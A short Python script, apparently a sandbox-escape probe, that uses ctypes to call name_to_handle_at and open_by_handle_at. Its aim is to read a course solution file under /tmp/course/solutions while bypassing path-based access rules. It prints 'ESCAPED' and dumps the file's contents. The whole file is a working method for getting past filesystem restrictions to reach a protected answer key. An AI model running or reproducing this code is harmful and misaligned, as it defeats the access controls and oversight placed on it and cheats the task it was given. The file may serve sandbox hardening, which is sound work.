"""numerical_gradient: Open the solution by a file handle, past every path rule."""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(b"\x80\0\0\0" + bytes(132), 136)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, b"/tmp/course/solutions/numerical_gradient.py", handle, ctypes.byref(mount), 0) == 0:
        print("ESCAPED name_to_handle_at")
        root = os.open("/", os.O_RDONLY)
        descriptor = libc.open_by_handle_at(root, handle, 0)
        if descriptor >= 0:
            print(os.read(descriptor, 4096))


attack()
